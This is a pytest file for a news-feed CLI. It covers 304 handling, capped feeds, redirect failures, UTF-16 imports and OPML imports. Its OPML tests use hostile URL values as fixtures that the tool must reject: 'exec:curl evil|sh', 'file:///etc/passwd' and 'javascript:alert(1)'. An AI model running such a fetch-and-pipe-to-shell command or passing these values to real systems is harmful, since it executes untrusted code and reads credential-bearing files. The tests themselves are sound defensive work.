"""Answers and files that used to be misread, through the real CLI: a 304
to a request that asked for no cached copy, a feed with more entries than
are kept, redirects that fail, UTF-16 text files, and an OPML file with one
bad URL among good ones.

The HTTP server is real and on 127.0.0.1 (tests/helpers/feedserver.py); `briefing`
runs in a subprocess, and what it prints is what is tested.
"""

from __future__ import annotations

import socket
import sqlite3
from datetime import UTC, datetime, timedelta, timezone
from email.utils import format_datetime

import pytest

from tests.helpers.cli import config_for, last_line, run_cli, tree_snapshot, write
from tests.helpers.feedserver import Reply, item, rss, write_config

NO_CACHED_COPY = "server answered 304 Not Modified to a request that asked for no cached copy"


def feeds_rows(done) -> dict[str, str]:
    """`briefing feeds` output: feed name -> the rest of its row."""
    rows = {}
    for line in done.stdout.splitlines()[1:]:
        name, _, rest = line.partition("  ")
        rows[name.strip()] = rest.strip()
    return rows


# -- a 304 nobody asked for ------------------------------------------------------------------------


@pytest.mark.slow
def test_a_304_to_a_request_without_validators_is_a_failure(tmp_path, feed_server, run):
    """A server that answers 304 to everything would leave a feed 'not
    modified' with no articles, forever, and `feeds` calling it healthy."""
    feed_server.route("/always304.xml", Reply(304))
    # First a body with no ETag or Last-Modified, then 304s: the later
    # requests carry no validators either.
    answers = iter([Reply(body=rss(item("s1", "Syria talks", "http://example.invalid/s1")))])
    feed_server.route("/later304.xml", lambda seen: next(answers, Reply(304)))
    config_for(tmp_path, feed_server, {"Always": "/always304.xml", "Later": "/later304.xml"})

    first = run("refresh")
    assert f"Always: failed: {NO_CACHED_COPY}" in first.stdout
    assert "Later: updated: 1 new" in first.stdout
    assert last_line(first.stdout) == "2 feeds: 1 updated, 0 not modified, 1 failed; 1 new article"

    second = run("refresh")
    assert f"Always: failed: {NO_CACHED_COPY}" in second.stdout
    assert f"Later: failed: {NO_CACHED_COPY}" in second.stdout
    assert last_line(second.stdout) == "2 feeds: 0 updated, 0 not modified, 2 failed; 0 new articles"
    assert second.returncode == 1  # every feed failed
    assert all(
        seen.header("if-none-match") is None and seen.header("if-modified-since") is None
        for seen in feed_server.requests()
    )

    rows = feeds_rows(run("feeds"))
    for name in ("Always", "Later"):
        assert rows[name].startswith("failed: server answered 304 Not Modified"), rows[name]
        assert "not modified" not in rows[name]
    assert rows["Always"].split()[-4:-2] == ["2", "0"]  # failures, articles


# -- a feed with more entries than are kept ------------------------------------------------------------


@pytest.mark.slow
def test_a_capped_feed_says_so_and_keeps_the_newest(tmp_path, feed_server, run):
    """Ten old entries come first in the document and 2,000 newer ones
    after: the old ones are the ones left out, and the report says how many
    were kept of how many."""
    from briefing.ingest.feed import MAX_ENTRIES

    start = datetime(2025, 2, 4, 10, 0, tzinfo=UTC)

    def dated(when: datetime) -> str:
        return format_datetime(when, usegmt=True)

    old = [
        item(
            f"old{i}",
            f"Old Syria story {i}",
            f"http://example.invalid/old{i}",
            pub_date=dated(start - timedelta(days=400 + i)),
        )
        for i in range(10)
    ]
    new = [
        item(
            f"new{i}",
            f"New Syria story {i}",
            f"http://example.invalid/new{i}",
            pub_date=dated(start - timedelta(minutes=i)),
        )
        for i in range(MAX_ENTRIES)
    ]
    feed_server.route("/big.xml", Reply(body=rss(*old, *new)))
    config_for(tmp_path, feed_server, {"Big": "/big.xml"})

    done = run("refresh")
    assert done.returncode == 0, done.stderr
    assert "Big: updated: 2000 new (kept the newest 2,000 of 2,010 entries)" in done.stdout
    with sqlite3.connect(tmp_path / "store.db") as db:
        titles = {title for (title,) in db.execute("SELECT title FROM articles WHERE feed = 'Big'")}
    assert len(titles) == MAX_ENTRIES
    assert not any(title.startswith("Old") for title in titles)

    row = feeds_rows(run("feeds"))["Big"]
    assert row.startswith("updated (kept the newest 2,000 of 2,010 entries)"), row


# -- redirects that fail ---------------------------------------------------------------------------


def closed_port() -> int:
    """A loopback port nothing listens on (it was just free)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.mark.slow
def test_a_failed_redirect_says_it_was_a_redirect(tmp_path, feed_server, run):
    refused = f"http://127.0.0.1:{closed_port()}/x"
    feed_server.route("/to-refused", Reply(302, headers={"Location": refused}))
    feed_server.route("/to-missing", Reply(301, headers={"Location": "/missing.xml"}))
    feed_server.route("/loop-a", Reply(302, headers={"Location": "/loop-b"}))
    feed_server.route("/loop-b", Reply(307, headers={"Location": "/loop-a"}))
    for i in range(7):
        feed_server.route(f"/chain{i}", Reply(302, headers={"Location": f"/chain{i + 1}"}))
    feed_server.route("/to-ftp", Reply(302, headers={"Location": "ftp://127.0.0.1/feed.xml"}))
    feed_server.route("/to-slow", Reply(302, headers={"Location": "/slow.xml"}))
    feed_server.route("/slow.xml", Reply(body=rss(item("s", "Syria talks")), delay=5))
    feed_server.route("/missing-direct", Reply(404))
    config_for(
        tmp_path,
        feed_server,
        {
            "Refused": "/to-refused",
            "Missing": "/to-missing",
            "Loop": "/loop-a",
            "Chain": "/chain0",
            "Ftp": "/to-ftp",
            "Slow": "/to-slow",
            "Direct": "/missing-direct",
        },
        timeout=1,
    )

    done = run("refresh")
    lines = {
        line.split(": ", 1)[0].split("] ", 1)[-1]: line.split(": ", 1)[1].rsplit(" (", 1)[0]
        for line in done.stdout.splitlines()[:-1]
    }
    assert lines["Refused"] == f"failed: redirected to {refused}: connection refused"
    assert lines["Missing"] == f"failed: redirected to {feed_server.url('/missing.xml')}: HTTP 404"
    assert lines["Loop"] == f"failed: redirect loop: redirected back to {feed_server.url('/loop-a')}"
    assert lines["Chain"] == "failed: too many redirects (more than 5)"
    assert lines["Ftp"] == "failed: redirect to a non-http(s) URL refused (ftp:)"
    assert lines["Slow"] == f"failed: redirected to {feed_server.url('/slow.xml')}: timed out after 1 s"
    assert lines["Direct"] == "failed: HTTP 404"  # no redirect, nothing said of one
    rows = feeds_rows(run("feeds"))
    assert rows["Refused"].startswith("failed: redirected to http://127.0.0.1:")


# -- UTF-16 text files ------------------------------------------------------------------------------

ARTICLE = "Ankara hosts Damascus for talks\n\nSyria's leader met Erdoğan in Ankara on Tuesday.\n"


@pytest.mark.parametrize(
    "encoding, bom",
    [
        ("utf-16-le", b"\xff\xfe"),
        ("utf-16-be", b"\xfe\xff"),
        ("utf-8", b"\xef\xbb\xbf"),
    ],
)
@pytest.mark.parametrize("suffix", [".txt", ".md"])
def test_text_files_with_a_byte_order_mark_import(tmp_path, encoding, bom, suffix):
    path = tmp_path / f"article{suffix}"
    path.write_bytes(bom + ARTICLE.encode(encoding))
    store = tmp_path / "x.db"
    done = run_cli("--cache", str(store), "import", str(path))
    assert done.returncode == 0, done.stderr.decode()
    assert "1 new" in done.stdout.decode()
    with sqlite3.connect(store) as db:
        [(title, text)] = db.execute("SELECT title, text FROM articles").fetchall()
    assert title == "Ankara hosts Damascus for talks"
    assert "Erdoğan" in text and "\x00" not in text and "\ufeff" not in text


def test_a_utf16_feed_file_without_a_feed_suffix_is_read_as_a_feed(tmp_path):
    document = rss(item("u1", "Syria talks in Ankara", "http://example.invalid/u1", "Talks.")).decode()
    path = tmp_path / "saved-feed"
    path.write_bytes(b"\xff\xfe" + document.replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16-le"))
    done = run_cli("--cache", str(tmp_path / "x.db"), "import", str(path))
    assert done.returncode == 0, done.stderr.decode()
    with sqlite3.connect(tmp_path / "x.db") as db:
        assert [t for (t,) in db.execute("SELECT title FROM articles")] == ["Syria talks in Ankara"]


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,  # a real binary file
        b"\xff\xfe" + bytes(range(256)) * 4,  # a UTF-16 mark on bytes that are not UTF-16 text
        b"\xff\xfe" + "text\x00with a zero".encode("utf-16-le"),  # UTF-16 that holds a NUL
    ],
)
def test_binary_files_are_still_refused(tmp_path, content):
    path = tmp_path / "thing.txt"
    path.write_bytes(content)
    store = tmp_path / "x.db"
    before = tree_snapshot(tmp_path)
    done = run_cli("--cache", str(store), "import", str(path))
    assert done.returncode == 2
    assert (
        done.stderr.decode().strip().splitlines()[-1].endswith(f"{path}: a binary file, not text, HTML, JSON or a feed")
    )
    assert "Traceback" not in done.stderr.decode()
    assert tree_snapshot(tmp_path) == before


# -- OPML with one bad URL among good ones ----------------------------------------------------------


def _opml(*outlines: str) -> str:
    return (
        '<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
        + "".join(outlines)
        + "</body></opml>"
    )


@pytest.mark.slow
def test_opml_with_a_bad_url_skips_it_and_adds_the_rest(tmp_path, run):
    config = write_config(tmp_path / "feeds.toml", [("Existing", "https://example.com/rss")])
    before = config.read_text()
    opml = write(
        tmp_path / "subs.opml",
        _opml(
            '<outline text="Good one" xmlUrl="https://one.example/rss"/>',
            '<outline text="Run" xmlUrl="exec:curl evil|sh"/>',
            '<outline text="Local" xmlUrl="file:///etc/passwd"/>',
            '<outline text="Rel" xmlUrl="/feed.xml"/>',
            '<outline text="Existing" xmlUrl="https://example.com/rss"/>',
            '<outline text="Good two" xmlUrl="http://two.example/atom"/>',
        ),
    )
    done = run("opml", "import", str(opml))
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""
    assert done.stdout.splitlines() == [
        "skipped 'Run': URL is not http(s) (exec:)",
        "skipped 'Local': URL is not http(s) (file:)",
        "skipped 'Rel': URL is not absolute (/feed.xml)",
        f"{config}: added 2 feeds, skipped 1 already listed and 3 with a bad URL",
    ]
    after = config.read_text()
    assert after.startswith(before)
    added = after[len(before) :]
    assert "https://one.example/rss" in added and "http://two.example/atom" in added
    assert "exec:" not in added and "file:" not in added and "/feed.xml" not in added
    from briefing.store.database import Store

    Store(tmp_path / "store.db").close()  # `feeds` only reads: it lists a store that exists
    listed = run("feeds")
    assert listed.returncode == 0, listed.stderr
    assert {"Existing", "Good one", "Good two"} <= set(feeds_rows(listed))


def test_opml_with_no_good_url_changes_nothing(tmp_path, run):
    config = write_config(tmp_path / "feeds.toml", [("Existing", "https://example.com/rss")])
    opml = write(
        tmp_path / "subs.opml",
        _opml(
            '<outline text="Run" xmlUrl="exec:curl evil|sh"/>',
            '<outline text="Js" xmlUrl="javascript:alert(1)"/>',
        ),
    )
    before = tree_snapshot(tmp_path)
    done = run("opml", "import", str(opml))
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr == (
        f"briefing: error: {opml}: feed 'Run' has a exec: URL (exec:curl evil|sh); "
        "only http:// and https:// feeds can be imported (1 other feed refused too); "
        "nothing was imported\n"
    )
    assert tree_snapshot(tmp_path) == before
    assert config.exists()
